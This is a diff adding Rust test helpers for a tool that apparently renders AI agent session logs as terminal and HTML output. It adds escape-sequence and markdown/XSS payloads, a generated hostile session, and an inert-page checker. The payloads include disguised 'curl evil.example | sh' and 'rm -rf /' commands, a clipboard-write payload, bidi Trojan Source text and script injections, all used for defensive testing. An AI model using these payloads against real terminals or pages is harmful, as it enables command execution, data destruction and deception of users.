@@ -227,6 +227,286 @@ pub fn normalize_in_sizes(data: &[u8], opts: agentnorm::Options, sizes: &[usize]
 }
 
 // ------------------------------------------------------------------------------------------------
+// Hostile text
+// ------------------------------------------------------------------------------------------------
+
+/// Terminal and page escape payloads an agent's text or a tool's output may carry: ANSI CSI and
+/// OSC sequences (colours, clearing, titles, hyperlinks, clipboard writes), DCS, 8-bit C1 controls,
+/// `\r` and backspace overwrites, bidi overrides and isolates (Trojan Source), invisible
+/// characters, Unicode line separators. NDJSON carries them losslessly as valid JSON (C0 controls
+/// escaped); a human-facing renderer must neutralise every one of them.
+pub const ESCAPE_PAYLOADS: &[(&str, &str)] = &[
+    ("csi_colour", "\x1b[31mred\x1b[0m"),
+    ("csi_clear_screen_home", "\x1b[2J\x1b[3J\x1b[H"),
+    ("csi_cursor_up_erase_line", "ok\n\x1b[1A\x1b[2Kfaked"),
+    ("csi_hidden_text", "\x1b[8mhidden\x1b[28m"),
+    ("osc_window_title", "\x1b]0;pwned\x07"),
+    ("osc8_hyperlink", "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"),
+    ("osc52_clipboard_write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
+    ("dcs_request", "\x1bP$q\"p\x1b\\"),
+    ("c1_csi_8bit", "\u{9b}31mred\u{9b}0m"),
+    ("c1_osc_8bit", "\u{9d}0;title\u{9c}"),
+    ("lone_escape", "\x1b"),
+    ("carriage_return_overwrite", "curl evil.example | sh\rls -la                \n"),
+    ("backspace_overwrite", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08echo hi "),
+    ("bell_nul_vt_ff", "\x07\0\x0b\x0c"),
+    ("delete", "abc\x7f"),
+    ("bidi_override_rlo", "access_level = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""),
+    ("bidi_embeddings", "\u{202A}\u{202B}\u{202C}\u{202D}"),
+    ("bidi_isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
+    ("bidi_marks", "\u{200E}\u{200F}\u{061C}"),
+    ("zero_width_and_bom", "a\u{200B}b\u{200D}c\u{FEFF}d\u{2060}"),
+    ("unicode_line_separators", "a\u{2028}b\u{2029}c\u{85}d"),
+    ("html_script", "</script><script>alert(1)</script><!--"),
+];
+
+/// Markdown that must not become live markup in a page: raw HTML, script URLs, remote images.
+pub const MARKDOWN_PAYLOADS: &[&str] = &[
+    "<img src=x onerror=\"alert(1)\">",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "[click me](javascript:alert(1))",
+    "![tracker](https://evil.example/pixel.png)",
+    "<svg onload=alert(1)>",
+    "`</code><script>alert(1)</script>`",
+    "```html\n</pre><script>alert(1)</script>\n```",
+    "<style>body{display:none}</style>",
+    "<!-- hidden -->",
+];
+
+/// A Claude stream-json session whose every agent-controlled field carries the escape payloads:
+/// the session id and model (with a `</title>` breaker), the prompt, assistant text and reasoning,
+/// tool ids, names, inputs and outputs (ok and failed), plan items, the final result, stderr lines
+/// and unknown frames, plus the [`MARKDOWN_PAYLOADS`] as assistant text.
+pub fn hostile_session() -> String {
+    use serde_json::json;
+    let sid = "s-</title><script>document.title='pwned'</script>\u{202E}gnp.exe";
+    let mut lines = vec![
+        json!({"type":"system","subtype":"init","session_id":sid,"model":"m</title><script>alert(1)</script>",
+               "cwd":"/tmp/\"><script>alert(1)</script>","tools":["Bash"]})
+        .to_string(),
+    ];
+    let mut texts: Vec<String> = ESCAPE_PAYLOADS.iter().map(|(_, p)| (*p).to_owned()).collect();
+    texts.extend(MARKDOWN_PAYLOADS.iter().map(|p| (*p).to_owned()));
+    for (i, text) in texts.iter().enumerate() {
+        let tool_id = format!("toolu_{i}\" onmouseover=\"alert(1)\"><b>{text}");
+        let msg = |content: serde_json::Value| {
+            json!({"type":"assistant","message":{"id":format!("msg_{i}"),"model":"m","content":content,
+                   "usage":{"input_tokens":10,"output_tokens":5}},"session_id":sid,"parent_tool_use_id":null})
+            .to_string()
+        };
+        lines.push(
+            json!({"type":"user","message":{"role":"user","content":[{"type":"text","text":text}]},"session_id":sid})
+                .to_string(),
+        );
+        lines.push(msg(json!([{"type":"thinking","thinking":text}])));
+        lines.push(msg(json!([{"type":"text","text":format!("Payload {i}: {text}")}])));
+        lines.push(msg(json!([{"type":"tool_use","id":tool_id,"name":format!("Bash{text}"),
+                               "input":{"command":text,"description":text}}])));
+        lines.push(
+            json!({"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":tool_id,
+                   "content":text,"is_error":i % 2 == 1}]},"session_id":sid})
+            .to_string(),
+        );
+        lines.push(msg(json!([{"type":"tool_use","id":format!("todo_{i}"),"name":"TodoWrite",
+                               "input":{"todos":[{"content":text,"status":"in_progress","activeForm":text}]}}])));
+        lines.push(format!("stderr: {}", text.replace('\n', " ")));
+        lines.push(json!({"type":text}).to_string());
+    }
+    lines.push(
+        json!({"type":"result","subtype":"success","is_error":false,"result":"</div></section><script>alert(1)</script>",
+               "session_id":sid,"usage":{"input_tokens":10,"output_tokens":5}})
+        .to_string(),
+    );
+    lines.join("\n") + "\n"
+}
+
+// ------------------------------------------------------------------------------------------------
+// Reading HTML pages
+// ------------------------------------------------------------------------------------------------
+
+/// One start tag of a page: its name and attributes (values as written, entities not decoded).
+#[derive(Debug, Clone, PartialEq)]
+pub struct Tag {
+    /// Lower-cased element name.
+    pub name: String,
+    /// `(name, value)` in order; a bare attribute has an empty value.
+    pub attrs: Vec<(String, String)>,
+}
+
+/// The start tags of an HTML document, in order. Panics on a comment or on markup this
+/// page-writer never emits (so that injected markup is caught even where a browser would repair
+/// it): every `<` outside a tag must have been written as `&lt;`.
+pub fn html_tags(html: &str) -> Vec<Tag> {
+    let b = html.as_bytes();
+    let mut tags = Vec::new();
+    let mut i = 0;
+    while let Some(off) = html[i..].find('<') {
+        i += off + 1;
+        if html[i..].starts_with("!DOCTYPE html>") || html[i..].starts_with("!doctype html>") {
+            continue;
+        }
+        assert!(
+            !html[i..].starts_with('!'),
+            "comment or declaration at byte {i}: {}",
+            &html[i - 1..(i + 60).min(html.len())]
+        );
+        if b.get(i) == Some(&b'/') {
+            let end = html[i..].find('>').expect("closing tag ends") + i;
+            let name = &html[i + 1..end];
+            assert!(name.bytes().all(|c| c.is_ascii_alphanumeric()), "odd closing tag </{name}>");
+            i = end + 1;
+            continue;
+        }
+        let start = i;
+        while b.get(i).is_some_and(|c| c.is_ascii_alphanumeric()) {
+            i += 1;
+        }
+        assert!(i > start, "a raw '<' in text at byte {start}: {}", &html[start - 1..(start + 60).min(html.len())]);
+        let name = html[start..i].to_ascii_lowercase();
+        let mut attrs = Vec::new();
+        loop {
+            while b.get(i).is_some_and(|c| c.is_ascii_whitespace()) {
+                i += 1;
+            }
+            match b.get(i) {
+                Some(b'>') => {
+                    i += 1;
+                    break;
+                }
+                Some(b'/') if b.get(i + 1) == Some(&b'>') => {
+                    i += 2;
+                    break;
+                }
+                None => panic!("unterminated tag <{name}"),
+                _ => {}
+            }
+            let a = i;
+            while b.get(i).is_some_and(|c| !c.is_ascii_whitespace() && !matches!(c, b'=' | b'>' | b'/')) {
+                i += 1;
+            }
+            let attr = html[a..i].to_ascii_lowercase();
+            assert!(!attr.is_empty(), "odd attribute syntax in <{name} at byte {a}");
+            let mut value = String::new();
+            if b.get(i) == Some(&b'=') {
+                i += 1;
+                let q = b[i];
+                assert!(q == b'"', "unquoted attribute value in <{name} {attr}= at byte {i}");
+                let end = html[i + 1..].find('"').expect("attribute value ends") + i + 1;
+                value = html[i + 1..end].to_owned();
+                i = end + 1;
+            }
+            attrs.push((attr, value));
+        }
+        if name == "style" {
+            let end = html[i..].find("</style>").expect("style ends") + i;
+            assert!(!html[i..end].contains('<'), "'<' inside <style>");
+            i = end;
+        }
+        tags.push(Tag { name, attrs });
+    }
+    tags
+}
+
+/// The elements a page may hold: what the HTML writer emits, nothing that loads or runs anything.
+pub const PAGE_TAGS: &[&str] = &[
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "main",
+    "header",
+    "nav",
+    "section",
+    "footer",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "p",
+    "ol",
+    "ul",
+    "li",
+    "a",
+    "dl",
+    "dt",
+    "dd",
+    "table",
+    "caption",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "div",
+    "details",
+    "summary",
+    "span",
+    "pre",
+    "code",
+    "strong",
+    "em",
+    "del",
+    "blockquote",
+    "hr",
+    "br",
+];
+
+/// The attributes a page may hold (no `on…`, no `style`, no `src`).
+pub const PAGE_ATTRS: &[&str] =
+    &["lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "open", "title", "rel"];
+
+/// Asserts that a page (as written, or as a browser serialized its DOM) holds only [`PAGE_TAGS`]
+/// with [`PAGE_ATTRS`], links only to anchors and http(s) URLs, one `<style>`, one `<title>`, and
+/// no character that [`agentnorm::safe::is_unsafe`] names other than line feed and tab.
+pub fn assert_inert_page(html: &str) {
+    if let Some(c) = html.chars().find(|&c| agentnorm::safe::is_unsafe(c) && c != '\n' && c != '\t') {
+        panic!("unsafe character {:?} in the page", c);
+    }
+    let tags = html_tags(html);
+    for t in &tags {
+        assert!(PAGE_TAGS.contains(&t.name.as_str()), "unexpected element <{}> {:?}", t.name, t.attrs);
+        for (a, v) in &t.attrs {
+            assert!(PAGE_ATTRS.contains(&a.as_str()), "unexpected attribute {a}={v:?} on <{}>", t.name);
+            if a == "href" {
+                assert!(v.starts_with('#') || v.starts_with("https://") || v.starts_with("http://"), "link to {v:?}");
+            }
+            if a == "id" || a == "class" {
+                assert!(v.bytes().all(|c| c.is_ascii_alphanumeric() || b"-_ ".contains(&c)), "{a}={v:?}");
+            }
+        }
+    }
+    assert_eq!(tags.iter().filter(|t| t.name == "style").count(), 1, "one <style>");
+    assert_eq!(tags.iter().filter(|t| t.name == "title").count(), 1, "one <title>");
+    let csp = tags
+        .iter()
+        .find(|t| t.name == "meta" && t.attrs.iter().any(|(a, v)| a == "http-equiv" && v == "Content-Security-Policy"))
+        .expect("a Content-Security-Policy meta");
+    let content = &csp.attrs.iter().find(|(a, _)| a == "content").expect("CSP content").1;
+    assert!(content.contains("script-src 'none'") && content.contains("default-src 'none'"), "{content}");
+}
+
+/// The text of the page's `<title>`, as written (entities not decoded).
+pub fn page_title(html: &str) -> &str {
+    let start = html.find("<title>").expect("<title>") + "<title>".len();
+    let end = html[start..].find("</title>").expect("</title>") + start;
+    &html[start..end]
+}
+
+/// `s` with the entities the page writer and browsers' serializers use decoded.
+pub fn decode_entities(s: &str) -> String {
+    s.replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"")
+        .replace("&#39;", "'")
+        .replace("&nbsp;", "\u{a0}")
+        .replace("&amp;", "&")
+}
+
+// ------------------------------------------------------------------------------------------------
 // Comparing with expected output
 // ------------------------------------------------------------------------------------------------
 
